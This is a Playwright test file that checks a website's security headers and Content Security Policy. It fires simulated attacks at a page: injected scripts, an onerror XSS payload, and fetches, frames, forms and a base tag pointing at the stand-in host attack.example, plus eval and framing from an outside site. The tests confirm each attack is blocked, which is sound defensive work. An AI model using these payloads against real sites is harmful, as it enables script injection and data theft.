import fs from "node:fs";
import path from "node:path";
import type { Page } from "@playwright/test";
import { builtPages, inParts } from "./support/built-pages";
import { kinds } from "./support/kinds";
import { expect, test } from "./support/test";
import { watchViolations } from "./support/violations";

// Every other browser test fails as well when the policy blocks something: the console says so.

/** Answers in the place of all other hosts with a picture; out: what they were asked for. */
async function answerForOthers(page: Page): Promise<string[]> {
  const asked: string[] = [];
  await page.route(/^https?:\/\/(?!localhost)/, async (route) => {
    asked.push(route.request().url());
    const body = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"/>';
    await route.fulfill({ contentType: "image/svg+xml", body });
  });
  return asked;
}

test("every kind of response carries the headers of security", async ({ request }) => {
  for (const url of ["/", "/concepts/", "/nothing/", "/sw.js", "/reference.json"]) {
    const headers = (await request.get(url)).headers();
    expect(headers["content-security-policy"]).toMatch(
      /^default-src 'none'; script-src 'strict-dynamic' /,
    );
    expect(headers).toMatchObject({
      "cross-origin-opener-policy": "same-origin",
      "permissions-policy": expect.stringContaining("camera=()"),
      "referrer-policy": "strict-origin-when-cross-origin",
      "x-content-type-options": "nosniff",
      "x-frame-options": "DENY",
    });
    // This server has no https: it must not send its readers there.
    expect(headers["content-security-policy"]).not.toContain("upgrade-insecure-requests");
    expect(headers).not.toHaveProperty("strict-transport-security");
  }
});

const htmlOf = (url: string): string => {
  const file = url.endsWith("/") ? `${url}index.html` : url;
  return fs.readFileSync(path.join(__dirname, "..", "public", file), "utf8");
};

test("only the playground's document may show frames of the site and send projects elsewhere", () => {
  const own = builtPages.filter((url) => {
    const [, policy = ""] =
      /http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(htmlOf(url)) ?? [];
    expect(policy, url).toContain("default-src");
    return /frame-src &#x27;self|frame-src 'self|stackblitz/.test(policy);
  });
  expect(own).toEqual(["/playground/"]);
});

test("no page has code or styles in its elements, or a part that another host sends", () => {
  expect(builtPages.length).toBeGreaterThan(150);
  const faults = builtPages.flatMap((url) => {
    // What browsers with scripts don't load.
    const html = htmlOf(url).replace(/<noscript>.*?<\/noscript>/gs, "");
    const tags = html.matchAll(/<[a-z][\w-]*(?:\s+[^\s"'>/=]+(?:="[^"]*")?)*\s*\/?>/g);
    return [...tags]
      .map(([tag]) => tag)
      .filter(
        (tag) =>
          / (?:style|on[a-z]+)="/.test(tag) ||
          /^<(?!a\b)(?![^>]* loading="lazy")[^>]* (?:src|srcset|poster|data)="(?:https?:)?\/\//.test(
            tag,
          ) ||
          /^<link(?![^>]* rel="(?:canonical|alternate)")[^>]* href="(?:https?:)?\/\//.test(tag),
      )
      .map((tag) => `${url}: ${tag}`);
  });
  expect(faults).toEqual([]);
});

/** Pages with a part that runs, and one of each kind. */
const active = builtPages.filter((url) =>
  /<div[^>]* data-island="(?!search|chat)/.test(htmlOf(url)),
);

for (const [index, urls] of inParts(
  [...new Set([...active, ...Object.values(kinds)])],
  2,
).entries()) {
  test(`a page asks no other host and breaks no rule, ${index + 1}`, async ({
    page,
    consoleGuard,
  }) => {
    test.slow();
    // The not-found page is answered with its status.
    consoleGuard.allow(/status of 404/);
    const violations = await watchViolations(page);
    const asked = await answerForOthers(page);
    // The page before may still have asked for something.
    page.on("framenavigated", () => asked.splice(0));
    for (const url of urls) {
      await page.goto(url);
      expect(asked, url).toEqual([]);
      // With the first movement comes the reading script.
      await page.mouse.move(200, 400);
      await page.mouse.move(210, 410);
      await page.evaluate(() => scrollTo(0, document.body.scrollHeight));
      await page.waitForTimeout(100);
    }
    expect(violations).toEqual([]);
  });
}

const attacks: [name: string, directive: string, act: () => unknown][] = [
  [
    "an inline script",
    "console",
    () => {
      const script = document.createElement("script");
      script.append("window.attacked = true");
      document.body.append(script);
    },
  ],
  [
    "a script of another host",
    "require-trusted-types-for",
    () => {
      const script = document.createElement("script");
      document.body.append(script);
      try {
        script.src = "https://cdn.example/attack.js";
      } catch {
        // As it should be.
      }
    },
  ],
  [
    "a worker of another text",
    "require-trusted-types-for",
    () => {
      try {
        new Worker(URL.createObjectURL(new Blob(["self.close()"])));
      } catch {
        // As it should be.
      }
    },
  ],
  [
    "an event handler",
    "script-src-attr",
    () => {
      const html = '<img src="data:," onerror="window.attacked = true" alt="">';
      document.body.append(new DOMParser().parseFromString(html, "text/html").body);
    },
  ],
  [
    "a stylesheet",
    "style-src-elem",
    () => {
      const style = document.createElement("style");
      style.textContent = "body { display: none }";
      document.head.append(style);
    },
  ],
  [
    "a style attribute",
    "style-src-attr",
    () => document.body.setAttribute("style", "display: none"),
  ],
  [
    "a frame",
    "frame-src",
    () => {
      const frame = document.createElement("iframe");
      frame.src = "https://attack.example/";
      document.body.append(frame);
    },
  ],
  [
    "a request to another host",
    "connect-src",
    () => fetch("https://attack.example/").catch(() => 0),
  ],
  [
    "an image without https",
    "img-src",
    () => {
      new Image().src = "http://attack.example/a.png";
    },
  ],
  [
    "a form that leads away",
    "form-action",
    () => {
      const form = document.createElement("form");
      form.action = "https://attack.example/";
      document.body.append(form);
      form.submit();
    },
  ],
  [
    "another base",
    "base-uri",
    () => {
      const base = document.createElement("base");
      base.href = "https://attack.example/";
      document.head.append(base);
    },
  ],
];

test("the policy blocks what attackers try", async ({ page, consoleGuard }) => {
  consoleGuard.allow(/Content Security Policy|Failed to fetch|Refused to|requires 'Trusted/);
  const asked = await answerForOthers(page);
  const violations = await watchViolations(page);
  await page.goto("/concepts/");
  for (const [name, directive, act] of attacks)
    await test.step(name, async () => {
      violations.length = 0;
      await page.evaluate(act);
      await expect
        .poll(() => violations.map((violation) => violation.directive))
        .toContain(directive);
      expect(await page.evaluate(() => "attacked" in window)).toBe(false);
      // Asked in the page: after a form was sent, an expectation waits for another page to come.
      expect(
        await page.evaluate(() => [
          location.pathname,
          document.querySelector("h1")?.checkVisibility(),
        ]),
      ).toEqual(["/concepts/", true]);
    });
  expect(asked).toEqual([]);
});

test("what a script sets as HTML is text, but for marks", async ({ page }) => {
  await page.goto("/concepts/");
  const made = await page.evaluate(() => {
    const box = document.createElement("div");
    box.innerHTML = '<img src=x onerror="attacked=1"><mark>a</mark><svg><a href=/>b</a></svg>';
    box.insertAdjacentHTML("beforeend", "<iframe></iframe>");
    return [box.querySelectorAll("*").length, box.querySelector("mark")?.textContent];
  });
  expect(made).toEqual([1, "a"]);
});

test("the policy blocks eval", async ({ page, consoleGuard }) => {
  consoleGuard.allow(/Content Security Policy|unsafe-eval|Evaluating a string|requires 'Trusted/);
  const violations = await watchViolations(page);
  await page.goto("/concepts/");
  // A timer runs outside of what the test evaluates, which is free to do anything.
  const outcome = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        setTimeout(() => {
          try {
            resolve(String(eval("'it ran'")));
          } catch (error) {
            resolve(String(error));
          }
        });
      }),
  );
  expect(outcome).toContain("EvalError");
  await expect.poll(() => violations.map(({ blocked }) => blocked)).toContain("trusted-types-sink");
});

test("no other site can show ours in a frame", async ({ page, baseURL, consoleGuard }) => {
  consoleGuard.allow(/frame|ERR_BLOCKED_BY_RESPONSE/i);
  await page.route("https://attack.example/", (route) =>
    route.fulfill({
      contentType: "text/html",
      body: `<iframe src="${String(baseURL)}/concepts/"></iframe>`,
    }),
  );
  await page.goto("https://attack.example/");
  await page.waitForTimeout(1_000);
  const shown = page.frameLocator("iframe").getByRole("heading", { level: 1 });
  await expect(shown).toHaveCount(0);
});
